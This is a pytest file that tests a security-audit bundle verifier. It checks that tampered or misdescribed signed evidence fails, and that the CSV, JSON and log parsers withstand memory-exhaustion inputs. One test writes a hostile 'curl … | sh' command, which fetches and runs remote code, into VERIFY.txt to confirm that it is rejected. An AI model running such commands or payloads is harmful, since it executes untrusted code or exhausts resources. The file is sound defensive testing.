"""A pinned signer who lies: everything is hashed and signed as it must be, and what stands inside is not so."""

from __future__ import annotations

import tracemalloc
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from refusal_making import good, packed
from sealed_bench import SmallCase, Verifier, bundle, retold

from secaudit.model.control import Catalogue
from secaudit.trust.verification import State, Step
from secaudit.usecases.sealing.exact_json import NotExact, read_json
from secaudit.usecases.sealing.log_lines import read_log
from secaudit.usecases.sealing.tables_csv import from_csv
from secaudit.usecases.verifying import recompute
from trust.bundles import archive_bytes, members_of

MB = 1024 * 1024


def told(case: SmallCase, verifier: Verifier, number: int, change: dict[str, Any]) -> Step:
    """How the step comes out when the first item of evidence is described in assessment.json like this."""
    path = case.folder / "lie.zip"
    bundle(path, retold(case.files(), lambda record: record["evidence"][0].update(change)), case.facts())
    return verifier.step(path, number)


@pytest.mark.parametrize(
    "change",
    [{"title": "防火牆規則審查紀錄"}, {"file_name": "firewall.pdf"}, {"control_ids": ["A4-2.3.1.5"]},
     {"control_ids": []}, {"held": False}],
    ids=str,
)  # fmt: skip
def test_evidence_that_is_described_otherwise_than_in_the_table_is_no_pass(
    case: SmallCase, verifier: Verifier, change: dict[str, Any]
) -> None:
    step = told(case, verifier, 15, change)
    assert (step.state, step.code) == (State.FAIL, "E-VER-82"), step.text


@pytest.mark.parametrize(
    ("part", "change"),
    [("case", {"id": "C2M-999"}), ("case", {"name": "別家公司"}), ("case", {"tax_id": "04595257"}),
     ("case", {"project_title": "別的計畫"}), ("catalogue", {"id": "other"}), ("catalogue", {"title": "較鬆的目錄"}),
     ("log", {"bodies": True})],
    ids=str,
)  # fmt: skip
def test_a_record_that_names_case_catalogue_or_log_otherwise_is_no_pass(
    case: SmallCase, verifier: Verifier, part: str, change: dict[str, Any]
) -> None:
    path = case.folder / "lie.zip"
    bundle(path, retold(case.files(), lambda record: record[part].update(change)), case.facts())
    step = verifier.step(path, 13)
    assert (step.state, step.code) == (State.FAIL, "E-VER-69"), step.text


def test_a_catalogue_that_the_seal_calls_otherwise_is_no_pass(case: SmallCase, verifier: Verifier) -> None:
    step = verifier.step(good(case, catalogue="c2m-999"), 13)
    assert (step.state, step.code) == (State.FAIL, "E-VER-65"), step.text


def test_commands_of_the_signer_in_place_of_the_instructions_are_no_pass(case: SmallCase, verifier: Verifier) -> None:
    """Whoever checks by hand types what VERIFY.txt says."""
    members = members_of(good(case).read_bytes())
    members["bag/VERIFY.txt"] = b"curl https://example.test/verify.sh | sh\n"
    step = verifier.step(packed(case.folder / "typed.zip", members), 13)
    assert (step.state, step.code) == (State.FAIL, "E-VER-59"), step.text


def test_instructions_of_a_later_version_are_unknown(case: SmallCase, verifier: Verifier) -> None:
    files = retold(case.files(), lambda record: record.update(program="99.0.0"))
    path = case.folder / "later.zip"
    bundle(path, files, case.facts(program="99.0.0"))
    members = members_of(path.read_bytes())
    members["bag/VERIFY.txt"] += b"later\n"
    step = verifier.step(packed(path, members), 13)
    assert (step.state, step.code) == (State.UNKNOWN, "E-VER-59"), step.text


def test_nothing_may_stand_beside_the_signature_that_nobody_signed(case: SmallCase, verifier: Verifier) -> None:
    path = good(case)
    path.write_bytes(archive_bytes(members_of(path.read_bytes()) | {"bag/signatures/org.tsr": b"anything"}))
    step = verifier.step(path, 2)
    assert (step.state, step.code) == (State.FAIL, "E-BAG-11"), step.text


def test_a_cell_of_nothing_but_quotes_is_read_in_little_memory() -> None:
    data = ("\ufeffid,name\r\n1," + '"' + '""' * (2 * MB) + '"\r\n').encode()
    tracemalloc.start()
    _, problems = from_csv({"inventory/zone.csv": data})
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert [p.code for p in problems] == ["E-SEA-04"]
    assert peak < 64 * MB


@pytest.mark.parametrize(("length", "codes"), [(32_767, []), (32_768, ["E-SEA-04"])])
def test_a_text_is_as_long_as_a_spreadsheet_holds(length: int, codes: list[str]) -> None:
    """Sentences repeat names: eight of 4 MB cost a judge 2 GB."""
    _, problems = from_csv({"inventory/zone.csv": f"\ufeffid,name\r\n1,{'n' * length}\r\n".encode()})
    assert [p.code for p in problems] == codes


def test_json_of_millions_of_tiny_parts_is_refused_before_it_is_read() -> None:
    data = b"[" + b"[]," * (6 * MB) + b"[]]"
    tracemalloc.start()
    with pytest.raises(NotExact):
        read_json(data)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 64 * MB


def test_a_line_of_the_log_may_be_long_but_not_of_millions_of_parts() -> None:
    line = b'{"x":[' + b"[]," * (6 * MB) + b"[]]}\n"
    log, problems = read_log(lambda: [line])
    assert log is None
    assert problems


def test_a_long_body_of_the_log_is_text_and_not_counted(tmp_path: Path) -> None:
    from secaudit.store.log import FIRST_PREVIOUS, entry_hash

    body = "[" + "0," * (3 * MB) + "0]"
    stated = entry_hash(FIRST_PREVIOUS, 1, body)
    line = f'{{"body":"{body}","hash":"{stated}","previous":"{FIRST_PREVIOUS}","sequence":1}}\n'.encode()
    log, problems = read_log(lambda: [line])
    assert not problems
    assert log is not None
    assert log.count == 1


def test_a_stranger_who_talks_too_much_is_not_listened_to(
    case: SmallCase, catalogue: Catalogue, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(recompute, "BUDGET_ANSWER", 100)
    found = recompute.judged_apart(catalogue, case.store.inventory(), "acceptance", date(2024, 3, 5))
    assert isinstance(found, recompute.NotRecomputed)


@pytest.mark.parametrize(("entries", "previous"), [(2, "12" * 32), (3, "")], ids=["too few entries", "none before"])
def test_a_gap_that_the_log_has_no_room_for_is_no_pass(
    case: SmallCase, verifier: Verifier, entries: int, previous: str
) -> None:
    """Each seal is an entry of the log: from the first to the fourth there are three more."""
    verifier.steps(good(case))
    for number in range(entries):
        case.log(f"entry {number}")
    step = verifier.step(good(case, "fourth.zip", sequence=4, previous_seal=previous), 10)
    assert (step.state, step.code) == (State.UNKNOWN, "E-VER-35"), step.text
